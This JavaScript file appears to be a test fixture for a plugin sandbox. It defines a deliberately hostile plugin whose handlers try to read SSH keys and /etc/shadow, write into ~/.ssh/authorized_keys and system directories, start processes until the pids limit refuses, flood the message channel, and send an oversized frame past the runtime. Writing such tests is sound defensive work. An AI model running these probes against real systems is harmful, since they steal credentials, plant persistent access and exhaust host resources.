// A hostile plugin: each request is one attack on the host; it answers with what the attack got.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import v8 from 'node:v8';
import { getParentPort } from 'nsbox/worker';

const port = getParentPort();
const outcome = (fn) => {
  try {
    return `got ${JSON.stringify(String(fn()).slice(0, 40))}`;
  } catch (error) {
    return error.code ?? error.message;
  }
};

// The host told us where its user's HOME is; try the SSH key there, and the usual suspects.
port.handle('read-ssh', ({ home }) => [`${home}/.ssh/id_ed25519`, '/root/.ssh/id_rsa', '/etc/shadow']
  .map((file) => `${file}: ${outcome(() => fs.readFileSync(file, 'utf8'))}`).join(', '));

// Call home: the host's own listener on 127.0.0.1.
port.handle('connect-host', ({ port: target }) => new Promise((resolve) => {
  const socket = net.connect({ host: '127.0.0.1', port: target, timeout: 2000 });
  socket.once('data', (data) => resolve(`connected, read ${JSON.stringify(String(data))}`));
  socket.once('error', (error) => resolve(error.code));
  socket.once('timeout', () => resolve('timeout'));
}));

// Leave something behind: in its own directory, beside the host's key, and in the system.
port.handle('write-outside', ({ home, pluginDir }) => [`${pluginDir}/pwned`, '/plugin/pwned', `${home}/.ssh/authorized_keys`, '/usr/lib/pwned']
  .map((file) => `${file}: ${outcome(() => fs.writeFileSync(file, 'pwned') ?? 'written')}`).join(', '));

// A fork bomb, held back only by the pids limit: start sleepers until the kernel says no.
port.handle('fork-bomb', async () => {
  const children = [];
  let refusal = 'none';
  for (let i = 0; i < 500; i++) {
    const child = spawn('/bin/sleep', ['30'], { stdio: 'ignore' });
    const failed = await new Promise((resolve) => {
      child.once('spawn', () => resolve(null));
      child.once('error', (error) => resolve(error.code));
    });
    if (failed) {
      refusal = failed;
      break;
    }
    children.push(child);
  }
  children.forEach((child) => child.kill('SIGKILL'));
  return `${children.length} processes, then ${refusal}`;
});

// Flood the host with messages for `ms` milliseconds.
port.handle('flood', async (ms) => {
  let sent = 0;
  const end = Date.now() + ms;
  while (Date.now() < end) {
    for (let i = 0; i < 1000; i++) port.postMessage(sent++);
    await new Promise((resolve) => setImmediate(resolve));
  }
  return sent;
});

// Bypass the runtime and write one frame of 4 MiB straight to the channel descriptor.
port.handle('oversize', async () => {
  const body = v8.serialize([0, Buffer.alloc(4 << 20)]);
  const frame = Buffer.concat([Buffer.from(new Uint32Array([body.length]).buffer), body]);
  for (let done = 0; done < frame.length;) {
    try {
      done += fs.writeSync(3, frame, done);
    } catch {
      await new Promise((resolve) => setTimeout(resolve, 1));
    }
  }
  return 'sent';
});
